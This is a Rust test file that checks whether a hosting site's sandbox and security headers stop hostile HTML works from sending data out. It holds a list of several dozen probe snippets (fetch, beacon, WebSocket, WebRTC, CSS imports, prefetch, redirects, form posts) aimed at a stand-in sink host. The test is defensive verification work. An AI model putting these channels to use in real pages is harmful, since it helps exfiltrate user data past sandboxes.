//! The egress proof: a hostile work tries every known way out, and a server outside counts what arrives.
//!
//! Each channel has a port of its own, so that a bare connection tells which channel made it. Every probe is first run
//! without our headers, where it must arrive: a probe that cannot succeed would prove nothing. Then the same document
//! is run as a work in the frame of its page, and as a work opened on its own, over TLS under the public host names.
//! `policy/data/channels.toml` says what may arrive; the security page prints that table.

use std::collections::BTreeMap;
use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::process::{Child, Command};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use policy::channels::channels;
use policy::grants;
use tests::browser::Browser;
use tests::{Installation, free_port};

/// How long the slowest probe may take to arrive where nothing stops it.
const CONTROL_SECONDS_MAX: u64 = 30;
/// The least time for which a protected work is watched. Absence has no event to wait for.
const WATCHED_MILLISECONDS_MIN: u64 = 2_000;

/// The sink's address: not the one on which other tests look for their servers.
const SINK: &str = "127.0.0.9";

/// How a channel is watched.
#[derive(Clone, Copy, PartialEq)]
enum Seen {
    /// Connections to a TCP port.
    Tcp,
    /// Packets to a UDP port.
    Udp,
    /// Look-ups of a name, in the browser's network log.
    Dns,
}
use Seen::{Dns, Tcp, Udp};

/// Channels that leave the document alone can share one page; one that navigates needs a page of its own.
#[derive(Clone, Copy, PartialEq)]
enum Page {
    Shared,
    Own,
}
use Page::{Own, Shared};

/// Name, how it is seen, page, markup.
type Probe = (&'static str, Seen, Page, &'static str);

/// The probes: name, how it is seen, page, and the markup. `{url}` is an https address on the channel's port, `{host}`
/// its name and port, `{port}` the port alone.
const PROBES: &[Probe] = &[
    ("fetch", Tcp, Shared, "<script>fetch('{url}').catch(() => 0)</script>"),
    (
        "fetch-keepalive",
        Tcp,
        Shared,
        "<script>fetch('{url}', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}).catch(() => 0)</script>",
    ),
    (
        "xhr",
        Tcp,
        Shared,
        "<script>try { const x = new XMLHttpRequest; x.open('GET', '{url}'); x.send() } catch {}</script>",
    ),
    ("beacon", Tcp, Shared, "<script>try { navigator.sendBeacon('{url}', 'x') } catch {}</script>"),
    ("websocket", Tcp, Shared, "<script>try { new WebSocket('wss://{host}/') } catch {}</script>"),
    ("eventsource", Tcp, Shared, "<script>try { new EventSource('{url}') } catch {}</script>"),
    ("img", Tcp, Shared, "<img alt='' src='{url}'>"),
    ("img-srcset", Tcp, Shared, "<img alt='' srcset='{url} 1x'>"),
    ("input-image", Tcp, Shared, "<input type=image alt='' src='{url}'>"),
    ("svg-image", Tcp, Shared, "<svg width=9 height=9><image href='{url}' width=9 height=9></image></svg>"),
    ("css-url", Tcp, Shared, "<p style=\"background: url('{url}')\">x</p>"),
    ("css-import", Tcp, Shared, "<style>@import url('{url}');</style>"),
    (
        "font-face",
        Tcp,
        Shared,
        "<style>@font-face { font-family: f; src: url('{url}') } p { font-family: f }</style><p>x</p>",
    ),
    ("stylesheet", Tcp, Shared, "<link rel=stylesheet href='{url}'>"),
    ("script-src", Tcp, Shared, "<script src='{url}'></script>"),
    ("module", Tcp, Shared, "<script type=module src='{url}'></script>"),
    ("dynamic-import", Tcp, Shared, "<script>import('{url}').catch(() => 0)</script>"),
    ("media", Tcp, Shared, "<video src='{url}' preload=auto muted></video>"),
    ("track", Tcp, Shared, "<audio src='{url}' preload=auto></audio>"),
    ("iframe", Tcp, Shared, "<iframe title=x src='{url}'></iframe>"),
    ("embed", Tcp, Shared, "<embed src='{url}'>"),
    ("object", Tcp, Shared, "<object data='{url}'></object>"),
    ("preload", Tcp, Shared, "<link rel=preload as=image href='{url}'>"),
    ("modulepreload", Tcp, Shared, "<link rel=modulepreload href='{url}'>"),
    ("prefetch", Tcp, Shared, "<link rel=prefetch href='{url}'>"),
    ("preconnect", Tcp, Shared, "<link rel=preconnect href='{url}'>"),
    ("dns-prefetch", Dns, Shared, "<link rel=dns-prefetch href='{url}'>"),
    (
        "webrtc",
        Udp,
        Shared,
        "<script>try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.9:{port}'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch {}</script>",
    ),
    (
        "injected-script",
        Tcp,
        Shared,
        "<script>const s = document.createElement('script'); s.textContent = \"fetch('{url}').catch(() => 0)\"; document.head.append(s)</script>",
    ),
    ("srcdoc", Tcp, Shared, "<iframe title=x srcdoc=\"<img alt='' src='{url}'>\"></iframe>"),
    (
        "blob-frame",
        Tcp,
        Shared,
        "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\"<img src='{url}'>\"], {type: 'text/html'})); addEventListener('load', () => document.body.append(f))</script>",
    ),
    (
        "ping",
        Tcp,
        Shared,
        "<a id=pinger href='#x' ping='{url}'>x</a><script>document.getElementById('pinger').click()</script>",
    ),
    ("location", Tcp, Own, "<script>location = '{url}'</script>"),
    ("location-replace", Tcp, Own, "<script>location.replace('{url}')</script>"),
    ("meta-refresh", Tcp, Own, "<meta http-equiv=refresh content='0; url={url}'>"),
    (
        "link-click",
        Tcp,
        Own,
        "<a id=a href='{url}'>x</a><script>document.getElementById('a').click()</script>",
    ),
    (
        "link-download",
        Tcp,
        Own,
        "<a id=a download href='{url}'>x</a><script>document.getElementById('a').click()</script>",
    ),
    (
        "form-get",
        Tcp,
        Own,
        "<form id=f action='{url}'><input name=q value=x></form><script>document.getElementById('f').submit()</script>",
    ),
    (
        "form-post",
        Tcp,
        Own,
        "<form id=f method=post action='{url}'><input name=q value=x></form><script>document.getElementById('f').submit()</script>",
    ),
];

/// Counts what arrives for every channel in one run.
struct Sink {
    run: &'static str,
    ports: BTreeMap<&'static str, (u16, Arc<AtomicU32>)>,
}

impl Sink {
    fn open(run: &'static str) -> Result<Self> {
        let mut ports = BTreeMap::new();
        for (id, seen, ..) in PROBES {
            let count = Arc::new(AtomicU32::new(0));
            let arrived = Arc::clone(&count);
            let port = match seen {
                Udp => {
                    let socket = UdpSocket::bind((SINK, 0))?;
                    let port = socket.local_addr()?.port();
                    std::thread::spawn(move || {
                        while socket.recv(&mut [0; 2048]).is_ok() {
                            arrived.fetch_add(1, Ordering::SeqCst);
                        }
                    });
                    port
                }
                Tcp | Dns => {
                    let listener = TcpListener::bind((SINK, 0))?;
                    let port = listener.local_addr()?.port();
                    std::thread::spawn(move || {
                        for _closed_at_once in listener.incoming() {
                            arrived.fetch_add(1, Ordering::SeqCst);
                        }
                    });
                    port
                }
            };
            ports.insert(*id, (port, count));
        }
        Ok(Self { run, ports })
    }

    /// The document that tries these channels.
    fn document(&self, probes: &[&Probe]) -> String {
        let mut html =
            String::from("<!DOCTYPE html><html lang=en><meta charset=utf-8><title>probe</title><body>");
        for (id, seen, _, markup) in probes {
            // Names under probe.example are looked up for real, and their look-up is what counts.
            let host = if *seen == Dns { self.dns_name(id) } else { "sink.example".to_owned() };
            let port = self.ports[id].0.to_string();
            let (host, url) = (format!("{host}:{port}"), format!("https://{host}:{port}/{id}"));
            html.push_str(&markup.replace("{url}", &url).replace("{host}", &host).replace("{port}", &port));
        }
        html
    }

    fn dns_name(&self, id: &str) -> String {
        format!("{id}-{}.probe.example", self.run)
    }

    fn arrived(&self, id: &str) -> u32 {
        self.ports[id].1.load(Ordering::SeqCst).min(1)
    }
}

/// The documents of a run: one with all the channels that can share one, and one for each other.
fn documents() -> Vec<(String, Vec<&'static Probe>)> {
    let shared = PROBES.iter().filter(|p| p.2 == Shared).collect();
    let own = PROBES.iter().filter(|p| p.2 == Own).map(|p| (p.0.to_owned(), vec![p]));
    std::iter::once(("shared".to_owned(), shared)).chain(own).collect()
}

/// A plain nginx without any of our headers: the same frame, the same documents, nothing in the way.
struct Control {
    nginx: Child,
    port: u16,
}

impl Control {
    fn serve(here: &Installation, sink: &Sink) -> Result<Self> {
        let root = here.folder().join("control");
        fs::create_dir_all(root.join("tmp"))?;
        for (name, probes) in documents() {
            fs::write(root.join(format!("{name}.html")), sink.document(&probes))?;
            let frame = format!(
                "<!DOCTYPE html><iframe sandbox='{}' src='https://content-sandbox.com:PORT/{name}.html'></iframe>",
                grants().sandbox()
            );
            fs::write(root.join(format!("{name}-frame.html")), frame)?;
        }
        let port = free_port()?;
        for entry in fs::read_dir(&root)?.flatten().filter(|e| e.path().is_file()) {
            let text = fs::read_to_string(entry.path())?;
            fs::write(entry.path(), text.replace(":PORT/", &format!(":{port}/")))?;
        }
        let (folder, tmp) = (here.folder().display(), root.join("tmp").display().to_string());
        let conf = root.join("nginx.conf");
        let root = root.display();
        let temporary: String = ["client_body", "proxy", "fastcgi", "uwsgi", "scgi"]
            .iter()
            .map(|k| format!("{k}_temp_path {tmp}/{k}; "))
            .collect();
        let text = format!(
            "pid {root}/pid; error_log {root}/error.log; events {{}} http {{ access_log off; {temporary}
             types {{ text/html html; }} ssl_certificate {folder}/cert.pem; ssl_certificate_key {folder}/key.pem;
             server {{ listen 127.0.0.1:{port} ssl; root {root}; }} }}"
        );
        fs::write(&conf, text)?;
        let mut nginx = Command::new("nginx");
        nginx
            .args(["-e", &format!("{root}/error.log"), "-c"])
            .arg(&conf)
            .args(["-g", "user root; daemon off;"]);
        let nginx = nginx.spawn()?;
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            std::thread::yield_now();
        }
        Ok(Self { nginx, port })
    }
}

impl Drop for Control {
    fn drop(&mut self) {
        let _ = Command::new("kill").arg(self.nginx.id().to_string()).status();
        let _ = self.nginx.wait();
    }
}

/// An installation whose works are the probes, by the creators `framed` and `alone`.
fn installation(framed: &Sink, alone: &Sink) -> Result<Installation> {
    let mut here = Installation::with_public_names()?;
    for (creator, sink) in [("framed", framed), ("alone", alone)] {
        for (name, probes) in documents() {
            let folder = here.source().join("content/works").join(creator).join(&name);
            fs::create_dir_all(&folder)?;
            fs::write(folder.join("index.html"), sink.document(&probes))?;
            fs::write(folder.join("work.json"), format!(r#"{{"id": "{name}", "released": "2026-11-30"}}"#))?;
        }
    }
    here.publish()?;
    here.serve()?;
    Ok(here)
}

/// Runs every document without protection and waits until each channel has arrived. Returns how long the slowest took.
async fn control(browser: &Browser, control: &Control, sink: &Sink) -> Result<Duration> {
    let mut slowest = Duration::ZERO;
    for (name, probes) in documents() {
        let start = Instant::now();
        browser.client.goto(&format!("https://tinyfiles.tv:{}/{name}-frame.html", control.port)).await?;
        for (id, ..) in probes.iter().filter(|p| p.1 != Dns) {
            while sink.arrived(id) == 0 {
                let waited = start.elapsed().as_secs();
                ensure!(waited < CONTROL_SECONDS_MAX, "{id} does not arrive even without protection");
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
        slowest = slowest.max(start.elapsed());
    }
    Ok(slowest)
}

#[tokio::test]
async fn nothing_arrives_that_the_security_page_says_is_closed() -> Result<()> {
    let (open, framed, alone) = (Sink::open("open")?, Sink::open("framed")?, Sink::open("alone")?);
    let here = installation(&framed, &alone)?;
    let plain = Control::serve(&here, &open)?;
    let browser = Browser::open(
        &[("tinyfiles.tv", "127.0.0.1"), ("content-sandbox.com", "127.0.0.1"), ("sink.example", SINK)],
        (1280, 800),
    )
    .await?;
    let watched =
        control(&browser, &plain, &open).await?.max(Duration::from_millis(WATCHED_MILLISECONDS_MIN));
    for (name, _) in documents() {
        browser.client.goto(&format!("https://tinyfiles.tv:{}/framed/{name}/", here.site_port)).await?;
        browser.play().await.with_context(|| format!("cannot play {name}"))?;
        tokio::time::sleep(watched).await;
        browser
            .client
            .goto(&format!("https://content-sandbox.com:{}/alone/{name}/", here.content_port))
            .await?;
        tokio::time::sleep(watched).await;
        browser.client.goto("about:blank").await?;
    }
    let log = browser.close().await?;
    let looked_up = |sink: &Sink, id: &str| u32::from(log.contains(&sink.dns_name(id)));
    let count =
        |sink: &Sink, id: &str, seen: Seen| if seen == Dns { looked_up(sink, id) } else { sink.arrived(id) };
    let mut wrong = Vec::new();
    for (id, seen, ..) in PROBES {
        let channel = channels()
            .iter()
            .find(|c| c.id == *id)
            .with_context(|| format!("{id} is not in channels.toml"))?;
        let found = (count(&open, id, *seen), count(&framed, id, *seen), count(&alone, id, *seen));
        if found != (1, channel.framed, channel.alone) {
            wrong.push(format!(
                "{id}: open, framed, alone {found:?}, the table says {:?}",
                (1, channel.framed, channel.alone)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let probed: Vec<&str> = PROBES.iter().map(|p| p.0).collect();
    for channel in channels() {
        assert!(probed.contains(&channel.id.as_str()), "{} is printed and never tried", channel.id);
    }
    Ok(())
}
